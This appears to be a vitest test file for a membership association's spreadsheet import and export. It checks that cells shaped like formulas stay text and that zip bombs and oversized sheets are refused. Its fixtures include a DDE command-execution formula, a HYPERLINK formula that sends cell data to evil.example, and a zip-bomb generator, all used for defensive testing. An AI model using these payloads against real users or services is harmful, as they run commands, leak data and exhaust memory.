import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateRawSync } from 'node:zlib'
import PizZip from 'pizzip'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { exportWorkbook } from '../../src/workbook/exporting.ts'
import { importWorkbook } from '../../src/workbook/importing.ts'
import { readWorkbook } from '../../src/workbook/reading.ts'
import { type Association, openAssociation, ZONE } from '../support/association.ts'

/** What a spreadsheet would run if it were typed into a cell. */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '＝1+1',
  '"=1+1"',
  "'=1+1",
  '=1+1,=2+2',
  '_x003D_1+1',
  '<f>1+1</f>',
]

let folder: string
let house: Association
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'huiwu-sheets-'))
  const members = FORMULAS.map((name, index) => [
    `D1${String(index).padStart(2, '0')}`,
    { name, phone: name, dues: [{ year: 2025, dueOn: '2025-06-30', owed: 100_000 }] },
  ])
  house = await openAssociation({
    at: '2026-03-02T10:00:00+08:00',
    roll: { members: Object.fromEntries(members), staff: ['秦岚/qin'] },
  })
})
afterAll(async () => {
  await house.close()
  await rm(folder, { recursive: true })
})

/** The XML of all sheets and styles of a workbook. */
function partsOf(bytes: Buffer): { sheets: string; styles: string } {
  const zip = new PizZip(bytes)
  const sheets = zip.file(/worksheets\/|sharedStrings/).map((file) => file.asText())
  return { sheets: sheets.join(''), styles: zip.file('xl/styles.xml')?.asText() ?? '' }
}

function expectPlain(bytes: Buffer): void {
  const { sheets, styles } = partsOf(bytes)
  // A formula is an element of its own; a text cell says that it is one.
  expect(sheets).not.toMatch(/<f[ >]/)
  for (const cell of sheets.match(/<c [^>]*>(?:(?!<\/c>).)*1\+1/g) ?? []) expect(cell).toMatch(/ t="(s|inlineStr)"/)
  expect(styles).toMatch(/numFmtId="49"|formatCode="@"/)
}

describe('what looks like a formula', () => {
  test('is text in the workbook, stays text when somebody edits it, and comes back as it was', async () => {
    const path = join(folder, 'out.xlsx')
    await exportWorkbook(house.database.db, path, ZONE)
    expectPlain(await readFile(path))
    const sheets = await readWorkbook(path)
    const names = sheets
      .find(({ name }) => name === '会员')
      ?.rows.slice(1)
      .map(([, name]) => name)
    expect(names).toEqual(FORMULAS)
    const report = await importWorkbook(house.database.db, path, { zone: ZONE, now: house.clock.now() })
    expect(report).toMatchObject({ outcome: 'imported' })
    expect(await house.database.db.auditEvent.count({ where: { type: 'member.changed' } })).toBe(0)
  })

  test('is text in the list of arrears and the exported roll that the secretariat is sent', async () => {
    await house.say('qin', '导出')
    await house.say('qin', '欠费')
    for (const key of house.cardsOf('qin').at(-1)?.keys ?? []) if (key === 'export') await house.tap('qin', key)
    const files = house.chat.filesOf('qin')
    expect(files.length).toBeGreaterThan(0)
    for (const { bytes } of files) expectPlain(bytes)
  })

  test.each(['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00a0=1+1'])(
    'behind a blank is read without it, as text: %j',
    async (name) => {
      const csv = await mkdtemp(join(folder, 'csv-'))
      const quoted = `"${name}"`
      await writeFile(join(csv, '会员.csv'), `会员编号,名称,类别,入会日期\nD900,${quoted},单位,2020-01-01\n`)
      await importWorkbook(house.database.db, csv, { zone: ZONE, now: house.clock.now() })
      expect((await house.database.db.member.findUniqueOrThrow({ where: { no: 'D900' } })).name).toBe('=1+1')
    },
  )
})

describe('a workbook that is a bomb', () => {
  /**
   * A zip file with one entry that unpacks to so many megabytes of nothing (PKWARE APPNOTE 4.3), whatever size its headers
   * say.
   */
  function bomb(megabytes: number, size = megabytes * 1024 * 1024): Buffer {
    const packed = deflateRawSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 1 })
    const name = Buffer.from('xl/worksheets/sheet1.xml')
    const sizes = Buffer.alloc(16)
    sizes.writeUInt32LE(packed.length, 4)
    sizes.writeUInt32LE(size, 8)
    sizes.writeUInt16LE(name.length, 12)
    const head = Buffer.concat([Buffer.from('\x14\0\0\0\x08\0\0\0\0\0', 'latin1'), sizes])
    const local = Buffer.concat([Buffer.from('PK\x03\x04'), head, name, packed])
    const entry = Buffer.concat([Buffer.from('PK\x01\x02\x14\0'), head, Buffer.alloc(14), name])
    const end = Buffer.alloc(18)
    end.writeUInt16LE(1, 4)
    end.writeUInt16LE(1, 6)
    end.writeUInt32LE(entry.length, 8)
    end.writeUInt32LE(local.length, 12)
    return Buffer.concat([local, entry, Buffer.from('PK\x05\x06'), end])
  }

  /** What is read in pieces leaves garbage behind for a while; held as a whole, it would take twice as much at least. */
  const HALF_OF_IT = 200 * 1024 * 1024

  test('is refused before it is unpacked', async () => {
    const path = join(folder, 'bomb.xlsx')
    await writeFile(path, bomb(400))
    const before = process.memoryUsage().rss
    const report = await importWorkbook(house.database.db, path, { zone: ZONE, now: house.clock.now() })
    expect(report).toMatchObject({ outcome: 'refused', problems: [{ message: expect.stringContaining('太大') }] })
    expect(process.memoryUsage().rss - before).toBeLessThan(HALF_OF_IT)
  })

  test.each([0, 1000])('is refused as well when its directory says that it is %i bytes large', async (said) => {
    const path = join(folder, 'liar.xlsx')
    await writeFile(path, bomb(400, said))
    const before = process.memoryUsage().rss
    const report = await importWorkbook(house.database.db, path, { zone: ZONE, now: house.clock.now() })
    expect(report).toMatchObject({ outcome: 'refused', problems: [{ message: expect.stringContaining('太大') }] })
    expect(process.memoryUsage().rss - before).toBeLessThan(HALF_OF_IT)
  })

  test('is refused when it is a large file to begin with', async () => {
    const path = join(folder, 'large.xlsx')
    await writeFile(path, Buffer.concat([bomb(1), Buffer.alloc(40 * 1024 * 1024)]))
    const report = await importWorkbook(house.database.db, path, { zone: ZONE, now: house.clock.now() })
    expect(report).toMatchObject({ outcome: 'refused', problems: [{ message: expect.stringContaining('太大') }] })
  })

  test.each([
    ['a cell in the last corner there is', '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', '第 1048576 行'],
    [
      'a cell at the end of a long row, among blanks',
      `<row\n r='9'>${' '.repeat(5000)}<c s="1" r="ZZZZZ9"/></row>`,
      'ZZZZZ9',
    ],
    ['tags without end', `${'<c '.repeat(2_000_000)}><c r="XFD999999"/>`, 'XFD999999'],
    ['a row beyond all rows', '<row r="999999999999"><c r="A999999999999"><v>1</v></c></row>', '第 999999999999 行'],
  ])('is refused when a sheet spans too much by %s, and says where', async (_, far, where) => {
    const path = join(folder, 'far.xlsx')
    await exportWorkbook(house.database.db, path, ZONE)
    const zip = new PizZip(await readFile(path))
    const sheet = zip.file('xl/worksheets/sheet1.xml')?.asText() ?? ''
    expect(sheet).toContain('</sheetData>')
    zip.file('xl/worksheets/sheet1.xml', sheet.replace('</sheetData>', `${far}</sheetData>`))
    await writeFile(path, zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' }))
    const since = performance.now()
    const report = await importWorkbook(house.database.db, path, { zone: ZONE, now: house.clock.now() })
    expect(performance.now() - since).toBeLessThan(5000)
    expect(report).toMatchObject({
      outcome: 'refused',
      problems: [{ message: expect.stringContaining(`很远的 ${where} `) }],
    })
  })

  test('is no workbook when its directory is broken', async () => {
    const path = join(folder, 'broken.xlsx')
    await writeFile(path, Buffer.concat([Buffer.from('PK\x03\x04'), deflateRawSync(Buffer.alloc(1000))]))
    const report = await importWorkbook(house.database.db, path, { zone: ZONE, now: house.clock.now() })
    expect(report).toMatchObject({ outcome: 'refused' })
  })
})
